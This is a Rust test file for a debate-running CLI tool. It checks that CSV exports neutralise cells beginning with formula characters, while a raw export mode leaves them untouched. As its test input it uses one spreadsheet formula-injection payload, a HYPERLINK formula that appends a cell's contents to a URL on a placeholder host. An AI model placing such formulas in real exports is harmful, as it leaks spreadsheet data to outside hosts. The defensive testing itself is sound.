//! Tables that people open in spreadsheets: a text that begins like a formula stays a text.

use elenchus_test_support::peers::{DUEL, is_debater, polite, run};
use elenchus_test_support::program::Program;
use elenchus_test_support::{Answer, ChatServer};

const FORMULA: &str = "=HYPERLINK(\"http://x/\"&A1)";

#[test]
fn what_a_model_wrote_is_no_formula_unless_it_is_asked_for_raw() {
    let server = ChatServer::start(|seen| match is_debater(seen) {
        true => Answer::chat(FORMULA),
        false => polite(seen),
    });
    let program = Program::facing(&server);
    program
        .run(&run(&DUEL, &["--topic", "How are locks made?"]))
        .ended_with(0);
    let cells = |args: &[&str]| -> Vec<String> {
        let table = program.run_ok(args);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(table.as_bytes());
        let rows = reader.records().map(Result::unwrap);
        rows.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>())
            .collect()
    };
    let defused = cells(&["export", "--turns", "-", "last"]);
    let runs = |cell: &&String| {
        cell.starts_with(['=', '+', '-', '@']) && cell.trim().parse::<f64>().is_err()
    };
    assert_eq!(defused.iter().find(runs), None);
    assert!(defused.contains(&format!("'{FORMULA}")), "{defused:?}");
    let raw = cells(&["export", "--turns", "-", "--raw", "last"]);
    assert!(raw.contains(&FORMULA.to_owned()), "{raw:?}");
}
